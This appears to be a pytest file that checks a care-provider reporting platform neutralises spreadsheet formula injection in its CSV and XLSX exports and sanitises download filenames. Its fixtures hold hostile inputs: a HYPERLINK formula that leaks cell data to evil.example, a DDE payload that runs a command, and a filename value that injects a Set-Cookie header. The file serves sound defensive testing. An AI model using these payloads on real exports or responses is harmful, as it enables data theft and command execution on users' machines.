"""Text a provider typed (a worker's name, a visit's or shift's ref, an event title, a credit reason)
that starts like a spreadsheet formula comes out neutralised in every CSV and XLSX the platform
writes: a leading apostrophe (OWASP's advice), so Excel or LibreOffice shows it as text and never
runs it. Numbers, negative amounts among them, stay numbers. Filenames are safe characters only."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse

from commissioning.api.authentication import hash_key
from commissioning.models import ApiToken
from homecare.lib.exports import xlsx_workbook
from outcomes.models import Credit, Event
from reporting.money.services import invoice_compute_draft
from reporting.returns.services import weekly_return_compute
from tests.conftest import PASSWORD
from tests.reporting.money_factories import make_person, make_shift, make_visit, make_worker

WORKER_REF = "-2+3"
WORKER_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
VISIT_REF = "+SUM(1,2)"
SHIFT_REF = "\r=1+1"
EVENT_TITLE = "@cmd|' /C calc'!A0"
CREDIT_REASON = "\t=DDE(1)"
MON = date(2025, 8, 4)


@pytest.fixture
def hostile(contract):
    provider = contract.provider
    contract.lots.update(billing_basis="planned")
    worker = make_worker(provider, ref=WORKER_REF, name=WORKER_NAME)
    make_shift(worker, "2025-08-05T08:00", "2025-08-05T12:00", ref=SHIFT_REF)
    person = make_person(contract, lot=1)
    make_visit(person, "2025-08-05T09:00", minutes=60, attend=[(worker, "09:00", "10:00")], ref=VISIT_REF)
    Event.objects.create(provider=provider, ref="E1", date=date(2025, 8, 6), kind="case_study", title=EVENT_TITLE)
    Credit.objects.create(
        provider=provider,
        ref="CR1",
        contract=contract,
        lot=1,
        date=date(2025, 8, 6),
        amount=Decimal("12.50"),
        reason=CREDIT_REASON,
    )
    return contract


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def _cells(rows) -> set[str]:
    return {cell for row in rows for cell in row}


def _manager_client(manager) -> Client:
    client = Client()
    assert client.login(email=manager.email, password=PASSWORD)
    return client


def _token_client(org) -> Client:
    key = f"key-{org.ref}-formula-0123456789"
    ApiToken.objects.create(organisation=org, name="finance", prefix=key[:12], key_hash=hash_key(key))
    return Client(HTTP_AUTHORIZATION=f"Token {key}")


def test_invoice_lines_and_detail_neutralise_refs_and_reasons(hostile, manager):
    invoice = invoice_compute_draft(lot_id=hostile.lots.get(number=1).pk, period_start=MON)
    web, api = _manager_client(manager), _token_client(hostile.provider)
    for client, lines_url, detail_url in (
        (
            web,
            reverse("reporting:invoice_lines_csv", args=[invoice.pk]),
            reverse("reporting:invoice_detail_csv", args=[invoice.pk]),
        ),
        (api, f"/api/v1/invoices/{invoice.pk}/lines.csv", f"/api/v1/invoices/{invoice.pk}/detail.csv"),
    ):
        lines = _rows(client.get(lines_url))
        credit = next(dict(zip(lines[0], row, strict=True)) for row in lines[1:] if row[1] == "credit")
        assert credit["reason"] == "'" + CREDIT_REASON
        assert credit["amount"] == "-12.50"  # a negative amount is a number, left alone
        detail = _cells(_rows(client.get(detail_url)))
        assert "'" + VISIT_REF in detail and "'" + WORKER_REF in detail
        assert VISIT_REF not in detail and WORKER_REF not in detail


def test_the_pay_run_and_its_shifts_neutralise_names_and_refs(hostile, manager):
    client = _manager_client(manager)
    params = {"period_start": "2025-08-04", "period_end": "2025-08-31"}
    pay = _rows(client.get(reverse("reporting:pay_run_csv"), params))
    row = next(dict(zip(pay[0], r, strict=True)) for r in pay[1:] if r[0] == "'" + WORKER_REF)
    assert row[pay[0][1]] == "'" + WORKER_NAME
    assert row["paid_hours"] == "4.00"  # numbers untouched
    shifts = _cells(_rows(client.get(reverse("reporting:pay_shifts_csv"), params)))
    assert "'" + SHIFT_REF in shifts and "'" + WORKER_REF in shifts


def test_the_return_csv_that_commissioners_get_neutralises_event_titles(hostile, manager, officer):
    wr = weekly_return_compute(contract_id=hostile.pk, week_start=MON)
    api = _token_client(hostile.provider)
    for client, url in (
        (_manager_client(manager), reverse("reporting:return_csv", args=[wr.pk])),
        (api, f"/api/v1/returns/{wr.pk}/?format=csv"),
        (api, f"/api/v1/returns/{wr.pk}.csv"),
    ):
        rows = _rows(client.get(url))
        titles = {r[2] for r in rows if r[0].startswith("measures.13.titles")}
        assert titles == {"'" + EVENT_TITLE}


def test_filenames_are_made_of_safe_characters_only(hostile, manager):
    provider = hostile.provider
    provider.ref = 'P1";\r\nSet-Cookie: x=1; ../'
    provider.save(update_fields=["ref"])
    wr = weekly_return_compute(contract_id=hostile.pk, week_start=MON)
    client = _manager_client(manager)
    for url in (
        reverse("reporting:return_csv", args=[wr.pk]),
        reverse("reporting:pay_run_csv") + "?period_start=2025-08-04&period_end=2025-08-31",
    ):
        disposition = client.get(url)["Content-Disposition"]
        name = disposition.split('filename="', 1)[1].rstrip('"')
        assert set(name) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-"), name
        assert name.startswith("P1-Set-Cookie-x-1") or "P1-Set-Cookie-x-1" in name, name


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers():
    from openpyxl import load_workbook

    content = xlsx_workbook(
        {"Board": (["worker", "hours", "=header"], [[WORKER_NAME, Decimal("-1.5"), EVENT_TITLE], ["Ann", 3, "-4"]])}
    )
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the file
    sheet = load_workbook(io.BytesIO(content)).active
    rows = [[(c.value, c.data_type, c.quotePrefix) for c in row] for row in sheet.iter_rows()]
    assert rows == [
        [("worker", "s", False), ("hours", "s", False), ("=header", "s", True)],
        [(WORKER_NAME, "s", True), (-1.5, "n", False), (EVENT_TITLE, "s", True)],
        [("Ann", "s", False), (3, "n", False), ("-4", "s", False)],
    ]
